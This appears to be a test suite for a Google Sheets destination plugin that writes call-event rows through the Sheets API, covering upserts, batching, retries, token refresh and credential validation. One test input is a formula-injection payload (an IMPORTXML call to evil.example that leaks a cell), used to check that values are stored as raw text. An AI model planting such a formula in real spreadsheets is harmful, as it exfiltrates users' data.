import plugin from '@switchhook/plugin-google-sheets';
import type { Delivery, JsonObject } from '@switchhook/sdk';
import {
  aDelivery,
  anEvent,
  createComponent,
  destinationSuite,
  type FakeServices,
  fakeServices,
  settled,
} from '@switchhook/testkit';
import { expect } from 'chai';
import { email, google, pem, spreadsheet } from './imitation.js';

const [component] = plugin.components;
const open = (): AbortSignal => new AbortController().signal;
const row = {
  sheet: 'Calls',
  key: 'Call',
  columns: {
    Call: '${{ event.subject }}',
    From: '${{ event.data.call.from_number }}',
    Summary: '${{ event.data.call.call_analysis.call_summary }}',
  },
};

async function setup(options: JsonObject = {}) {
  const far = await google();
  const services = fakeServices();
  const make = (more: JsonObject = {}, own: FakeServices = services) =>
    createComponent(
      'destination',
      component,
      { spreadsheet, baseUrl: far.far.url, credentials: far.credentials(), ...row, ...options, ...more },
      own,
      plugin,
    );
  return {
    ...far,
    services,
    make,
    destination: make(),
    close: async () => {
      await far.far.close();
      await services.close();
    },
  };
}

/** A delivery of an event about a call, as Retell sends it. */
function delivery(subject: string, call: JsonObject = {}, id = subject): Delivery {
  return aDelivery({ id, event: anEvent({ id: `e-${id}`, key: id, subject, data: { event: 'call_analyzed', call } }) });
}

const analysed = (summary: string): JsonObject => ({
  from_number: '+12025550143',
  call_analysis: { call_summary: summary },
});

destinationSuite('google-sheets.row', async () => {
  const fixture = await setup({
    key: 'Delivery',
    columns: { Delivery: '${{ delivery.id }}', Data: '${{ event.data }}' },
  });
  return {
    destination: fixture.destination,
    secrets: [pem, 'ya29.token-1'],
    arrived: () =>
      fixture
        .cells()
        .slice(1)
        .map(([cell]) => String(cell)),
    behave: (how) => {
      if (how === 'well') fixture.answers(null);
      else if (how === 'down') fixture.answers(() => 503);
      else fixture.answers(() => 'hang');
    },
    close: fixture.close,
  };
}, ['refusing', 'cut-off', 'erase', 'emits']);

describe('google-sheets.row', () => {
  const closing: (() => Promise<void>)[] = [];
  const start = async (options: JsonObject = {}) => {
    const fixture = await setup(options);
    closing.push(fixture.close);
    return fixture;
  };
  afterEach(async () => {
    for (const close of closing.splice(0)) await close();
  });

  it('adds a row for a call under the names of the columns, wherever these are, and changes that row afterwards', async () => {
    const { destination, cells } = await start();
    cells().push(['Call', 'Notes', 'Summary', 'From'], ['call_0', 'mine', '', '']);
    expect(await destination.deliver(delivery('call_1', { from_number: '+12025550143' }), open())).to.deep.equal({
      kind: 'delivered',
      response: '1 added, 0 changed',
    });
    expect(cells()[2]?.at(-1)).to.equal('+12025550143');
    cells()[2]?.splice(1, 1, 'a note of the team');
    expect(
      await destination.deliver(
        delivery('call_1', { call_analysis: { call_summary: 'wants a slot' } }, 'second'),
        open(),
      ),
    ).to.deep.equal({
      kind: 'delivered',
      response: '0 added, 1 changed',
    });
    expect(cells().slice(1)).to.deep.equal([
      ['call_0', 'mine', '', ''],
      ['call_1', 'a note of the team', 'wants a slot', '+12025550143'],
    ]);
  });

  it('gives an empty sheet its first row', async () => {
    const { destination, cells } = await start();
    await destination.deliver(delivery('call_1', analysed('a')), open());
    expect(cells()).to.deep.equal([
      ['Call', 'From', 'Summary'],
      ['call_1', '+12025550143', 'a'],
    ]);
  });

  for (const text of [
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    '+12025550143',
    '-1',
    '@SUM(1)',
    '2026-01-01',
    "'x",
  ])
    it(`writes ${text} as a text`, async () => {
      const { destination, cells, far } = await start();
      await destination.deliver(delivery('call_1', analysed(text)), open());
      await destination.deliver(delivery('call_1', analysed(text), 'second'), open());
      expect(cells()[1]).to.deep.equal(['call_1', '+12025550143', text]);
      const options = far.requests
        .filter(({ method, path }) => method === 'POST' && path !== '/token')
        .map(
          ({ path, text: body }) =>
            /valueInputOption=\w+/.exec(path)?.[0] ?? /"valueInputOption":"\w+"/.exec(body())?.[0],
        );
      expect([...new Set(options)]).to.deep.equal(['"valueInputOption":"RAW"', 'valueInputOption=RAW']);
    });

  it('keeps numbers and booleans, writes other values as text, and cuts what is too long for a cell', async () => {
    const columns = {
      Call: '${{ event.subject }}',
      N: '${{ event.data.call.n }}',
      B: '${{ event.data.call.b }}',
      Big: '${{ event.data.call.big }}',
      List: '${{ event.data.call.list }}',
      Long: '${{ event.data.call.long }}',
    };
    const { destination, cells } = await start({ columns });
    const values = {
      n: 73.5,
      b: true,
      big: 8202522731445525543n as unknown as number,
      list: ['a', { b: 1 }],
      long: 'x'.repeat(60_000),
    };
    expect(await destination.deliver(delivery('call_1', values), open())).to.include({ kind: 'delivered' });
    expect(cells()[1]?.slice(0, 5)).to.deep.equal(['call_1', 73.5, true, '8202522731445525543', '["a",{"b":1}]']);
    expect(cells()[1]?.[5]).to.equal(`${'x'.repeat(49_999)}…`);
  });

  it('replaces what is no text of the API, which would refuse the whole batch', async () => {
    const { destination, cells } = await start();
    await destination.deliver(delivery('call_1', analysed(`a\ud83db\0c${'x'.repeat(49_993)}\u{1f600}yz`)), open());
    const text = String(cells()[1]?.[2]);
    expect(text.slice(0, 5)).to.equal('a\ufffdb\ufffdc');
    expect([text.length, text.slice(-3)]).to.deep.equal([50_000, 'x\ufffd…']);
  });

  it('leaves a cell as it is where the field is missing or null, and empties it where the text is empty', async () => {
    const { destination, cells } = await start();
    await destination.deliver(delivery('call_1', analysed('a')), open());
    await destination.deliver(
      delivery('call_1', { from_number: null, call_analysis: { call_summary: '' } }, 'second'),
      open(),
    );
    expect(cells()[1]).to.deep.equal(['call_1', '+12025550143', '']);
  });

  for (let requests = 0; requests < 4; requests += 1)
    it(`adds no row twice where the connection breaks after ${requests} requests and their effect`, async () => {
      const { destination, cells, cutAfter } = await start();
      const one = delivery('call_1', analysed('a'));
      cutAfter(requests);
      const first = await destination.deliver(one, open());
      expect(first).to.include({ kind: 'unavailable' });
      cutAfter(Number.POSITIVE_INFINITY);
      expect(await destination.deliver(one, open())).to.include({ kind: 'delivered' });
      expect(cells()).to.deep.equal([
        ['Call', 'From', 'Summary'],
        ['call_1', '+12025550143', 'a'],
      ]);
    });

  it('takes one read and one write for a batch, in which each call has one row', async () => {
    const { destination, cells, calls } = await start();
    await destination.deliver(delivery('call_0', analysed('first')), open());
    const before = calls().length;
    const batch = [
      delivery('call_1', { from_number: '+12025550143' }),
      delivery('call_2', analysed('b')),
      delivery('call_1', { call_analysis: { call_summary: 'a' } }, 'second'),
      aDelivery({ event: anEvent({ subject: null }) }),
    ];
    const outcomes = await destination.deliverMany?.(batch, open());
    expect(outcomes?.map(({ kind }) => kind)).to.deep.equal(['delivered', 'delivered', 'delivered', 'rejected']);
    expect(outcomes?.[3]).to.deep.include({ reason: 'the event has no value for column "Call", the key' });
    expect(calls().slice(before)).to.deep.equal(['GET :batchGet', 'POST :append']);
    expect(cells().slice(2)).to.deep.equal([
      ['call_1', '+12025550143', 'a'],
      ['call_2', '+12025550143', 'b'],
    ]);
  });

  it('finds a column again that was moved', async () => {
    const { destination, cells } = await start();
    await destination.deliver(delivery('call_1', analysed('a')), open());
    for (const each of cells()) each.reverse();
    await destination.deliver(delivery('call_1', analysed('b'), 'second'), open());
    expect(cells()).to.deep.equal([
      ['Summary', 'From', 'Call'],
      ['b', '+12025550143', 'call_1'],
    ]);
  });

  it('adds one row for events of one call that two routers deliver at the same time', async () => {
    const { make, destination, services, cells } = await start();
    const other = make();
    const attempts = Promise.all([
      destination.deliver(delivery('call_1', analysed('a'), 'one'), open()),
      other.deliver(delivery('call_1', analysed('a'), 'two'), open()),
    ]);
    let done = false;
    void attempts.then(() => {
      done = true;
    });
    while (!done) {
      await settled();
      await services.clock.advance(250);
    }
    expect((await attempts).map(({ kind }) => kind)).to.deep.equal(['delivered', 'delivered']);
    expect(cells()).to.have.length(2);
  });

  it('signs for its access token, uses it for an hour, and requests another one in time or when it is refused', async () => {
    const { destination, assertions, services, tokens } = await start();
    await destination.deliver(delivery('call_1'), open());
    await destination.deliver(delivery('call_2'), open());
    const nowSeconds = services.clock.now() / 1_000;
    expect(assertions).to.have.length(1);
    expect(assertions[0]).to.deep.include({
      iss: email,
      scope: 'https://www.googleapis.com/auth/spreadsheets',
      iat: nowSeconds,
      exp: nowSeconds + 3_600,
    });
    await services.clock.advance(3_590_000);
    await destination.deliver(delivery('call_3'), open());
    expect(assertions).to.have.length(2);
    tokens.clear();
    expect(await destination.deliver(delivery('call_4'), open())).to.include({
      kind: 'unavailable',
      needsOperator: true,
    });
    expect(await destination.deliver(delivery('call_4'), open())).to.include({ kind: 'delivered' });
    expect(assertions).to.have.length(3);
  });

  for (const [what, options, columns, outcome] of [
    [
      'a sheet that is not there',
      { sheet: 'Nowhere' },
      null,
      {
        kind: 'unavailable',
        needsOperator: true,
        reason: `GET /v4/spreadsheets/${spreadsheet}/values:batchGet: HTTP 400 Bad Request: Unable to parse range: 'Nowhere'!1:1`,
      },
    ],
    [
      'a missing column',
      {},
      ['Call', 'Summary'],
      {
        kind: 'unavailable',
        needsOperator: true,
        reason: 'sheet "Calls" has no column "From"; its first row has "Call", "Summary"',
      },
    ],
    [
      'an empty A1',
      {},
      ['', 'Call', 'From', 'Summary'],
      {
        kind: 'unavailable',
        needsOperator: true,
        reason: 'sheet "Calls" must have the name of a column in A1: rows are added from column A on',
      },
    ],
  ] as const)
    it(`waits for an operator because of ${what}`, async () => {
      const { destination, cells } = await start(options);
      if (columns !== null) cells().push([...columns]);
      expect(await destination.deliver(delivery('call_1'), open())).to.deep.include(outcome);
    });

  for (const [status, message, outcome] of [
    [
      403,
      'The caller does not have permission',
      {
        kind: 'unavailable',
        needsOperator: true,
        reason: `GET /v4/spreadsheets/${spreadsheet}/values:batchGet: HTTP 403 Forbidden; the spreadsheet must be shared with ${email}: The caller does not have permission`,
      },
    ],
    [404, 'Requested entity was not found.', { kind: 'unavailable', needsOperator: true }],
    [429, 'Quota exceeded', { kind: 'unavailable', retryAfterMs: 60_000 }],
    [503, 'The service is currently unavailable.', { kind: 'unavailable' }],
  ] as const)
    it(`takes ${status} for ${JSON.stringify(outcome).slice(0, 60)}`, async () => {
      const { destination, answers, refusal, json } = await start();
      answers(({ path }) => (path === '/token' ? json({ access_token: 'x' }) : refusal(status, message)));
      expect(await destination.deliver(delivery('call_1'), open())).to.deep.include(outcome);
    });

  it('adds nothing where the reply about the keys is incomplete', async () => {
    const { destination, answers, json, calls } = await start();
    answers(({ path }) =>
      path === '/token'
        ? json({ access_token: 'x' })
        : { raw: 'HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n{"valueRanges":[' },
    );
    expect(await destination.deliver(delivery('call_1'), open())).to.deep.include({
      kind: 'unavailable',
      reason: 'the reply with the cells of sheet Calls is incomplete, or larger than 5 MB',
    });
    expect(calls()).to.deep.equal(['GET :batchGet']);
  });

  it('reports why Google gives no access token, and keeps the event', async () => {
    const { destination, answers, json } = await start();
    answers(() => json({ error: 'invalid_grant', error_description: 'Invalid JWT Signature.' }, 400));
    expect(await destination.deliver(delivery('call_1'), open())).to.deep.equal({
      kind: 'unavailable',
      needsOperator: true,
      reason: `access token of ${email}: HTTP 400 Bad Request: invalid_grant: Invalid JWT Signature.`,
    });
    answers(() => json({}));
    expect(await destination.deliver(delivery('call_1'), open())).to.deep.equal({
      kind: 'unavailable',
      reason: `access token of ${email}: the reply has no access_token`,
    });
    answers(() => 'reset');
    const broken = await destination.deliver(delivery('call_1'), open());
    expect(broken).to.include({ kind: 'unavailable' });
    expect(JSON.stringify(broken)).to.include('access token: 127.0.0.1');
  });

  it('shows the row, and probes the first one', async () => {
    const { destination, cells } = await start();
    expect(destination.preview?.(delivery('call_1', { from_number: '+12025550143' }))).to.deep.equal({
      spreadsheet,
      sheet: 'Calls',
      key: 'Call',
      row: { Call: 'call_1', From: '+12025550143', Summary: null },
    });
    expect(await destination.probe?.(open())).to.equal(null);
    cells().push(['Other']);
    expect(await destination.probe?.(open()).then(String, String)).to.include(
      'has no column "Call", "From", "Summary"',
    );
  });

  for (const [what, options, reason] of [
    ['a key that is no column', { key: 'Id' }, 'expected the name of one of the columns'],
    ['no columns', { columns: {} }, 'expected at least one column'],
    ['a spreadsheet that is none', { spreadsheet: 'https://example.com/x' }, 'expected the id of a spreadsheet'],
    ['the name of a key file', { credentials: './key.json' }, 'not the name of the file'],
    ['another kind of key', { credentials: '{"type":"authorized_user"}' }, 'with client_email and private_key'],
    [
      'half a private key',
      { credentials: JSON.stringify({ client_email: email, private_key: pem.slice(0, 200) }) },
      'not an RSA key in PEM',
    ],
  ] as const)
    it(`refuses ${what}, without a part of the key`, async () => {
      const { make } = await start();
      let thrown = '';
      try {
        make(options);
      } catch (error) {
        thrown = String(error);
      }
      expect(thrown).to.include(reason);
      expect(thrown).to.not.include(pem.slice(60, 100));
    });

  it("takes the spreadsheet's URL", async () => {
    const { make, cells } = await start();
    const url = `https://docs.google.com/spreadsheets/d/${spreadsheet}/edit?gid=0#gid=0`;
    expect(await make({ spreadsheet: url }).deliver(delivery('call_1'), open())).to.include({ kind: 'delivered' });
    expect(cells()).to.have.length(2);
  });
});
